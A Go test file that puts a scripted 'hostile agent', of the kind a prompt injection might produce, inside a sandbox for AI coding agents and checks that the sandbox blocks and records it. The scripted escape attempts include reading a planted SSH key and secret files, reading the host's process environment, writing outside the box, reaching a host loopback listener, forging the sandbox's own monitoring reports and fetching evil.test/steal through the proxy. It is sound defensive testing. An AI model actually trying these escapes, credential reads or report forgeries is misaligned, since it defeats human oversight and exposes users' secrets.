package sandbox_test

import (
	"bufio"
	"context"
	"crypto/tls"
	"crypto/x509"
	"encoding/json"
	"encoding/pem"
	"errors"
	"fmt"
	"io"
	"maps"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"sort"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/aceworks/ace/internal/gittest"
	"github.com/aceworks/ace/pkg/egress"
	"github.com/aceworks/ace/pkg/sandbox"
)

// plan is what the hostile agent tries: paths and addresses only. The canaries are the test's to look for.
type plan struct {
	Read         map[string]string // attempt → a file to read or a directory to list, outside the box's view
	List         map[string]string // attempt → a directory above the box's own mounts: only those may show
	Write        map[string]string // attempt → a path outside the working copy and home to create
	HostPID      int               // the test process, whose /proc/<pid>/environ the agent goes for
	HostTCP      string            // a listener on the host's loopback
	Refused      map[string]string // attempt → a URL off the allow list, through the proxy
	Allowed      string            // the stand-in model endpoint, on the allow list
	CA           string            // its certificate (PEM), which the agent trusts
	MirrorObject string            // a directory of the mirror's objects, mounted read-only
}

// attempt is one try's outcome: OK when it worked, Out what it got.
type attempt struct {
	OK  bool
	Out string
	Err string
}

// hostileMain is the scripted agent a prompt injection would make: it tries every way out it knows and prints
// what each gave as JSON.
func hostileMain(args []string) int {
	var p plan
	data, err := os.ReadFile(args[0])
	if err == nil {
		err = json.Unmarshal(data, &p)
	}
	if err != nil {
		fmt.Fprintln(os.Stderr, "hostile:", err)
		return 2
	}
	res := map[string]attempt{}
	try := func(name string, f func() (string, error)) {
		out, err := f()
		a := attempt{OK: err == nil, Out: out}
		if err != nil {
			a.Err = err.Error()
		}
		res[name] = a
	}
	for name, path := range p.Read {
		try(name, func() (string, error) { return readOrList(path) })
	}
	for name, path := range p.List {
		try(name, func() (string, error) { return readOrList(path) })
	}
	for name, path := range p.Write {
		try(name, func() (string, error) {
			os.MkdirAll(filepath.Dir(path), 0o755)
			return "", os.WriteFile(path, []byte("pwned"), 0o644)
		})
	}
	try("write-root", func() (string, error) { return "", os.WriteFile("/pwned", nil, 0o644) })
	try("write-system", func() (string, error) { return "", os.WriteFile("/usr/pwned", nil, 0o644) })
	try("write-mirror", func() (string, error) {
		return "", os.WriteFile(filepath.Join(p.MirrorObject, "pwned"), nil, 0o644)
	})
	try("host-environ", func() (string, error) { return readOrList("/proc/" + strconv.Itoa(p.HostPID) + "/environ") })
	try("box-pid1-environ", func() (string, error) { return readOrList("/proc/1/environ") })
	try("own-environ", func() (string, error) { return strings.Join(os.Environ(), "\n"), nil })
	try("processes", func() (string, error) {
		ents, err := os.ReadDir("/proc")
		var cmds []string
		for _, e := range ents {
			if _, err := strconv.Atoi(e.Name()); err == nil {
				b, _ := os.ReadFile("/proc/" + e.Name() + "/cmdline")
				cmds = append(cmds, e.Name()+": "+strings.ReplaceAll(string(b), "\x00", " "))
			}
		}
		return strings.Join(cmds, "\n"), err
	})
	try("host-tcp", func() (string, error) {
		c, err := net.DialTimeout("tcp", p.HostTCP, 3*time.Second)
		if err == nil {
			c.Close()
		}
		return "", err
	})
	// A forged report, straight to the report socket, to the proxy's, and through the box's forwarder (ace __box
	// makes that connection to the proxy: ace's process, the agent's bytes).
	forged := `{"attempts":[{"kind":"write","op":"openat","write":true,"path":"/forged","n":1}]}` // a write: kept even where the path is not
	for name, addr := range map[string]string{"forge-report": sandbox.ProxyDir + "/" + sandbox.ReportSocketName,
		"forge-report-proxy": sandbox.ProxyDir + "/egress.sock", "forge-report-forwarder": strings.TrimPrefix(os.Getenv("HTTPS_PROXY"), "http://")} {
		try(name, func() (string, error) { return postTo(addr, "/ace/box/report", forged) })
	}
	client := proxyClient(p.CA)
	for name, u := range p.Refused {
		try(name, func() (string, error) { return get(client, u) })
	}
	try("model", func() (string, error) { return get(client, p.Allowed) })
	wd, _ := os.Getwd()
	try("own-workdir", func() (string, error) { return roundTrip(filepath.Join(wd, "agent-was-here.txt")) })
	try("own-home", func() (string, error) { return roundTrip(filepath.Join(os.Getenv("HOME"), ".config/agent/state.json")) })
	try("git", func() (string, error) {
		var log []string
		for _, args := range [][]string{{"log", "--oneline"}, {"add", "agent-was-here.txt"}, {"commit", "-q", "-m", "boxed commit"}, {"log", "--oneline"}} {
			out, err := exec.Command("git", args...).CombinedOutput()
			log = append(log, string(out))
			if err != nil {
				return strings.Join(log, ""), fmt.Errorf("git %s: %w", args[0], err)
			}
		}
		return strings.Join(log, ""), nil
	})
	json.NewEncoder(os.Stdout).Encode(res)
	return 0
}

// postTo sends a POST of body to path at addr (a unix socket's path, or host:port) and fails unless it is taken.
func postTo(addr, path, body string) (string, error) {
	network := "tcp"
	if strings.HasPrefix(addr, "/") {
		network = "unix"
	}
	c, err := net.DialTimeout(network, addr, 3*time.Second)
	if err != nil {
		return "", err
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(5 * time.Second))
	fmt.Fprintf(c, "POST %s HTTP/1.1\r\nHost: ace\r\nContent-Length: %d\r\n\r\n%s", path, len(body), body)
	resp, err := http.ReadResponse(bufio.NewReader(c), nil)
	if err != nil {
		return "", err
	}
	b, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode/100 != 2 {
		return string(b), errors.New(resp.Status)
	}
	return string(b), nil
}

func readOrList(path string) (string, error) {
	b, err := os.ReadFile(path)
	if err == nil {
		return string(b), nil
	}
	ents, lerr := os.ReadDir(path)
	if lerr != nil {
		return "", err
	}
	var names []string
	for _, e := range ents {
		names = append(names, e.Name())
	}
	if len(names) == 0 {
		return "", errors.New("empty")
	}
	return strings.Join(names, " "), nil
}

func roundTrip(path string) (string, error) {
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		return "", err
	}
	if err := os.WriteFile(path, []byte("mine"), 0o644); err != nil {
		return "", err
	}
	b, err := os.ReadFile(path)
	return string(b), err
}

// proxyClient goes through $HTTPS_PROXY even to a loopback address, which Go's ProxyFromEnvironment never
// proxies (the stand-in model endpoint is on the host's loopback).
func proxyClient(caPEM string) *http.Client {
	pool := x509.NewCertPool()
	if caPEM != "" {
		pool.AppendCertsFromPEM([]byte(caPEM))
	}
	pu, _ := url.Parse(os.Getenv("HTTPS_PROXY"))
	return &http.Client{Timeout: 10 * time.Second, Transport: &http.Transport{
		Proxy: http.ProxyURL(pu), TLSClientConfig: &tls.Config{RootCAs: pool}, DisableKeepAlives: true,
	}}
}

func get(c *http.Client, u string) (string, error) {
	resp, err := c.Get(u)
	if err != nil {
		return "", err
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	if resp.StatusCode != http.StatusOK {
		return string(b), errors.New(resp.Status)
	}
	return string(b), nil
}

// world is the host a box runs on: a user's home, ace's root with its store, secrets, mirror, working copies and
// agent homes, an egress proxy, a stand-in model endpoint and a loopback listener the box must not reach.
type world struct {
	hostHome, aceRoot, mirror, wc, otherWC, agentHome, otherHome, sock, reportSock string
	model                                                                          *httptest.Server
	hostTCP                                                                        net.Listener
	mu                                                                             sync.Mutex
	events                                                                         []egress.Event
	eventc                                                                         chan struct{}
	reports                                                                        []sandbox.Report
}

const (
	keyCanary    = "-----BEGIN OPENSSH PRIVATE KEY----- canary"
	secretCanary = "ghp_canarytokenofaceitself"
	envCanary    = "host-environment-canary"
	agentSecret  = "sk-ant-agents-own-key"
)

func newWorld(t *testing.T) *world {
	t.Helper()
	top := outsideTmp(t)
	w := &world{hostHome: filepath.Join(top, "home/user"), aceRoot: filepath.Join(top, "home/user/.local/share/ace"), eventc: make(chan struct{}, 64)}
	write := func(rel, body string) string {
		p := filepath.Join(top, rel)
		if err := os.MkdirAll(filepath.Dir(p), 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(body), 0o600); err != nil {
			t.Fatal(err)
		}
		return p
	}
	write("home/user/.ssh/id_ed25519", keyCanary)
	write("home/user/src/other-project/.env", "DB_PASSWORD="+secretCanary)
	write("home/user/.local/share/ace/ace.db", "SQLite format 3 "+secretCanary)
	write("home/user/.local/share/ace/secrets.env", "GITHUB_TOKEN="+secretCanary)
	write("home/user/.local/share/ace/logs/ace-r-2.log", "other run's transcript "+secretCanary)
	w.otherWC = filepath.Dir(write("home/user/.local/share/ace/worktrees/r/2/NOTES.md", "other run "+secretCanary))
	w.otherHome = filepath.Dir(write("home/user/.local/share/ace/homes/codex/auth.json", `{"token":"`+secretCanary+`"}`))
	w.agentHome = filepath.Join(w.aceRoot, "homes/claude/run-1")
	if err := os.MkdirAll(w.agentHome, 0o700); err != nil {
		t.Fatal(err)
	}
	w.mirror = gittest.BareRepo(t, filepath.Join(w.aceRoot, "mirrors/o"), "r", nil)
	w.wc = filepath.Join(w.aceRoot, "worktrees/r/1")
	gittest.Run(t, w.aceRoot, "clone", "-q", "--shared", w.mirror, w.wc)

	runDir := filepath.Join(w.aceRoot, "run/r-1/egress")
	if err := os.MkdirAll(runDir, 0o700); err != nil {
		t.Fatal(err)
	}
	w.sock = filepath.Join(runDir, "egress.sock")
	w.model = httptest.NewTLSServer(http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) { io.WriteString(rw, "model-ok") }))
	t.Cleanup(w.model.Close)
	var err error
	if w.hostTCP, err = net.Listen("tcp", "127.0.0.1:0"); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { w.hostTCP.Close() })
	ln, err := egress.ListenUnix(w.sock)
	if err != nil {
		t.Fatal(err)
	}
	p, err := egress.New(egress.Options{Allow: []string{w.model.Listener.Addr().String()}, Report: func(e egress.Event) {
		w.mu.Lock()
		w.events = append(w.events, e)
		w.mu.Unlock()
		w.eventc <- struct{}{}
	}})
	if err != nil {
		t.Fatal(err)
	}
	w.reportSock = filepath.Join(runDir, sandbox.ReportSocketName)
	rln, err := egress.ListenUnix(w.reportSock)
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 2)
	go func() { done <- p.Serve(ctx, ln) }()
	go func() {
		done <- sandbox.ServeReports(ctx, rln, func(r sandbox.Report) {
			w.mu.Lock()
			w.reports = append(w.reports, r)
			w.mu.Unlock()
		})
	}()
	t.Cleanup(func() {
		cancel()
		for range 2 {
			if err := <-done; err != nil {
				t.Error(err)
			}
		}
	})
	return w
}

// outsideTmp is a temporary directory outside /tmp where there is one (/var/tmp): the box has a /tmp of its own,
// where a write to a path of the host's /tmp succeeds unseen by the host, while ace's root and the user's home
// are elsewhere. It is removed at the test's end.
func outsideTmp(t *testing.T) string {
	t.Helper()
	dir, err := os.MkdirTemp("/var/tmp", "ace-hostile-")
	if err != nil {
		t.Logf("no /var/tmp (%v): the world is in /tmp, where the box's own /tmp takes its writes", err)
		return t.TempDir()
	}
	t.Cleanup(func() { os.RemoveAll(dir) })
	return dir
}

// spec is the box of run 1 of the claude agent.
func (w *world) spec(t *testing.T) sandbox.Spec {
	return sandbox.Spec{
		WorkDir: w.wc, Home: w.agentHome, Self: self(t), ProxySocket: w.sock, ReportSocket: w.reportSock,
		ReadOnly: []string{filepath.Join(w.mirror, "objects")},
		Hide:     []string{w.aceRoot, w.hostHome, filepath.Join(w.hostHome, ".ssh")},
		Env: map[string]string{"ANTHROPIC_API_KEY": agentSecret, "GIT_CONFIG_NOSYSTEM": "1",
			"GIT_AUTHOR_NAME": "agent", "GIT_AUTHOR_EMAIL": "agent@ace.invalid",
			"GIT_COMMITTER_NAME": "agent", "GIT_COMMITTER_EMAIL": "agent@ace.invalid"},
	}
}

// awaitEvents waits until the proxy has reported n connections.
func (w *world) awaitEvents(t *testing.T, n int) []egress.Event {
	t.Helper()
	deadline := time.After(20 * time.Second)
	for {
		w.mu.Lock()
		got := append([]egress.Event(nil), w.events...)
		w.mu.Unlock()
		if len(got) >= n {
			return got
		}
		select {
		case <-w.eventc:
		case <-deadline:
			t.Fatalf("the proxy reported %d connections, want %d: %+v", len(got), n, got)
		}
	}
}

func TestHostileAgent(t *testing.T) {
	h := host(t)
	t.Setenv("ACE_HOST_CANARY", envCanary) // in ace's environment, never in a box's
	w := newWorld(t)
	canary := startCanary(t)
	model := w.model.Listener.Addr().String()
	hostTCP := w.hostTCP.Addr().String()
	p := plan{
		Read: map[string]string{
			"ssh-key":         filepath.Join(w.hostHome, ".ssh/id_ed25519"),
			"user-repo":       filepath.Join(w.hostHome, "src/other-project/.env"),
			"other-workdir":   filepath.Join(w.otherWC, "NOTES.md"),
			"store":           filepath.Join(w.aceRoot, "ace.db"),
			"secrets-file":    filepath.Join(w.aceRoot, "secrets.env"),
			"logs":            filepath.Join(w.aceRoot, "logs"),
			"other-home":      filepath.Join(w.otherHome, "auth.json"),
			"proxy-socket":    w.sock,
			"host-proc-cmdln": "/proc/" + strconv.Itoa(canary.Process.Pid) + "/cmdline",
		},
		// The mount points of the box's own paths show as empty directories in these; nothing else may.
		List: map[string]string{
			"list-user-home":   w.hostHome,
			"list-ace-root":    w.aceRoot,
			"list-worktrees":   filepath.Dir(w.otherWC),
			"list-agent-homes": filepath.Join(w.aceRoot, "homes"),
		},
		Write: map[string]string{
			"write-user-home":  filepath.Join(w.hostHome, ".bashrc"),
			"write-other-wc":   filepath.Join(w.otherWC, "pwned"),
			"write-ace-root":   filepath.Join(w.aceRoot, "ace.db-injected"),
			"write-other-home": filepath.Join(w.otherHome, "pwned"),
		},
		HostPID: os.Getpid(),
		HostTCP: hostTCP,
		Refused: map[string]string{
			"proxy-evil-https":    "https://evil.test/steal",
			"proxy-evil-http":     "http://evil.test/steal",
			"proxy-host-loopback": "http://" + hostTCP + "/",
		},
		Allowed:      "https://" + model + "/v1/messages",
		CA:           string(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: w.model.Certificate().Raw})),
		MirrorObject: filepath.Join(w.mirror, "objects"),
	}
	planFile := filepath.Join(w.agentHome, "plan.json")
	b, _ := json.Marshal(p)
	if err := os.WriteFile(planFile, b, 0o600); err != nil {
		t.Fatal(err)
	}
	box, err := h.Wrap(w.spec(t), []string{sandbox.SelfPath, "hostile", planFile})
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	cmd := box.Command(ctx)
	var stderr strings.Builder
	cmd.Stderr = &stderr
	out, err := cmd.Output()
	if err != nil {
		t.Fatalf("hostile agent: %v\n%s", err, stderr.String())
	}
	var res map[string]attempt
	if err := json.Unmarshal(out, &res); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	names := make([]string, 0, len(res))
	for n := range res {
		names = append(names, n)
	}
	sort.Strings(names)
	for _, n := range names {
		t.Logf("%-20s ok=%-5v err=%s", n, res[n].OK, res[n].Err)
	}
	leaked := func(s string) bool {
		return strings.Contains(s, keyCanary) || strings.Contains(s, secretCanary) || strings.Contains(s, envCanary) || strings.Contains(s, "canary-sleeper")
	}
	mustFail := []string{"write-root", "write-system", "write-mirror", "host-tcp", "host-environ", "forge-report",
		"forge-report-proxy", "forge-report-forwarder"}
	for n := range p.Read {
		mustFail = append(mustFail, n)
	}
	for n := range p.Refused {
		mustFail = append(mustFail, n)
	}
	for _, n := range mustFail {
		if a, ok := res[n]; !ok || a.OK || leaked(a.Out) {
			t.Errorf("%s: the box let it through: %+v", n, a)
		}
	}
	listed := map[string]string{"list-user-home": ".local", "list-ace-root": "homes mirrors worktrees",
		"list-worktrees": "1", "list-agent-homes": "claude"}
	for n, want := range listed {
		if a := res[n]; a.Out != want {
			t.Errorf("%s: the box shows %q, want only its own mount points %q", n, a.Out, want)
		}
	}
	for n, path := range p.Write {
		if _, err := os.Stat(path); err == nil {
			t.Errorf("%s: %s was written on the host", n, path)
		}
		if a := res[n]; a.OK && !within(path, "/tmp") {
			t.Errorf("%s: the write worked in the box: %+v", n, a)
		}
	}
	// The box's PID 1 is bwrap's reaper: its environment is the box's, nothing of the host's.
	for _, n := range []string{"box-pid1-environ", "own-environ", "processes"} {
		if a := res[n]; !a.OK || leaked(a.Out) {
			t.Errorf("%s: %+v", n, a)
		}
	}
	// No command line in the box holds the secret, and the box lists only its own processes.
	t.Logf("processes in the box:\n%s", res["processes"].Out)
	if ps := res["processes"].Out; strings.Contains(ps, agentSecret) || strings.Count(ps, "\n") > 3 {
		t.Errorf("processes: %s", ps)
	}
	if !strings.Contains(res["own-environ"].Out, "ANTHROPIC_API_KEY="+agentSecret) {
		t.Errorf("the agent's own secret did not reach it: %q", res["own-environ"].Out)
	}
	for _, n := range []string{"own-workdir", "own-home", "git", "model"} {
		if a := res[n]; !a.OK {
			t.Errorf("%s failed in the box: %+v", n, a)
		}
	}
	if res["model"].Out != "model-ok" {
		t.Errorf("model endpoint through the proxy: %+v", res["model"])
	}
	if log := gittest.Run(t, w.wc, "log", "--oneline", "-1"); !strings.Contains(log, "boxed commit") {
		t.Errorf("the commit made in the box is not in the working copy: %q", log)
	}
	assertNoAccept(t, w.hostTCP)
	w.checkRecorded(t, p)

	// The proxy's log has the allowed connection, each refused one, and the two forged reports sent to it, which
	// it could not read as proxy requests.
	events := w.awaitEvents(t, 1+len(p.Refused)+2)
	var allowed, refused []string
	malformed := 0
	for _, e := range events {
		switch {
		case e.Allowed:
			allowed = append(allowed, e.Addr())
		case errors.Is(e.Err, egress.ErrMalformed):
			malformed++
		default:
			refused = append(refused, e.Addr())
		}
	}
	if malformed != 2 {
		t.Errorf("the proxy logged %d malformed requests, want the 2 forged reports", malformed)
	}
	sort.Strings(refused)
	wantRefused := []string{hostTCP, "evil.test:443", "evil.test:80"}
	sort.Strings(wantRefused)
	if strings.Join(allowed, " ") != model || strings.Join(refused, " ") != strings.Join(wantRefused, " ") {
		t.Errorf("proxy log: allowed %v, refused %v; want allowed [%s], refused %v", allowed, refused, model, wantRefused)
	}
}

// assertNoAccept checks that nothing connected to ln.
func assertNoAccept(t *testing.T, ln net.Listener) {
	t.Helper()
	tl := ln.(*net.TCPListener)
	tl.SetDeadline(time.Now())
	if c, err := tl.Accept(); err == nil {
		c.Close()
		t.Error("the box reached a listener on the host's loopback")
	}
}

// checkRecorded asserts that the box recorded each forbidden file attempt of the plan, with its kind, and the
// connection to the host's loopback that cannot succeed in the box, and nothing else: not what the agent did in its working copy, its home, the mirror's objects or its own /proc.
// The box reported before it ended (ace __box sends what is left at exit, and the proxy hands it over before
// answering).
func (w *world) checkRecorded(t *testing.T, p plan) {
	t.Helper()
	w.mu.Lock()
	got := map[string]sandbox.Attempt{}
	for _, r := range w.reports {
		if r.Unrecorded != "" || r.More != 0 {
			t.Errorf("report %+v: want every attempt named, none unrecorded", r)
		}
		for _, a := range r.Attempts {
			t.Logf("recorded: %s %s %s write=%v ×%d", a.Kind, a.Op, a.Path, a.Write, a.Count)
			if prev, ok := got[a.Path]; ok && prev.Write {
				a.Write = true
			}
			got[a.Path] = a
		}
	}
	w.mu.Unlock()
	want := map[string]sandbox.AttemptKind{}
	for n, path := range p.Read {
		want[path] = sandbox.AttemptHidden
		if n == "host-proc-cmdln" {
			want[path] = sandbox.AttemptProc
		}
	}
	// Not the directories above the box's own mounts: the box shows them with nothing but those (the listed
	// attempts above), and CLIs open each parent of their working copy looking for settings.
	for _, path := range p.List {
		if a, ok := got[path]; ok {
			t.Errorf("recorded the listing of a mount point's parent: %+v", a)
		}
	}
	for _, path := range p.Write {
		want[path] = sandbox.AttemptHidden
	}
	want["/pwned"], want["/usr/pwned"] = sandbox.AttemptWrite, sandbox.AttemptWrite
	want[filepath.Join(p.MirrorObject, "pwned")] = sandbox.AttemptWrite
	want["/proc/"+strconv.Itoa(p.HostPID)+"/environ"] = sandbox.AttemptProc
	// The host's loopback listener, which nothing forwards: in the box, a port where nothing listens.
	want[p.HostTCP] = sandbox.AttemptLoopback
	for path, kind := range want {
		a, ok := got[path]
		switch {
		case !ok:
			t.Errorf("not recorded: %s (%s)", path, kind)
		case a.Kind != kind:
			t.Errorf("%s recorded as %s, want %s", path, a.Kind, kind)
		case a.Write != (kind == sandbox.AttemptWrite || slices.Contains(slices.Collect(maps.Values(p.Write)), path)):
			t.Errorf("%s recorded with write=%v", path, a.Write)
		}
		delete(got, path)
	}
	// Left: only the directories the agent made on its way to a file it wrote (os.MkdirAll), each a write.
	for path, a := range got {
		isParent := slices.ContainsFunc(slices.Collect(maps.Values(p.Write)), func(f string) bool { return strings.HasPrefix(f, path+"/") })
		if !isParent || !a.Write || a.Kind != sandbox.AttemptHidden {
			t.Errorf("recorded what the agent may do or never tried: %+v", a)
		}
	}
}

func within(path, dir string) bool { return path == dir || strings.HasPrefix(path, dir+"/") }
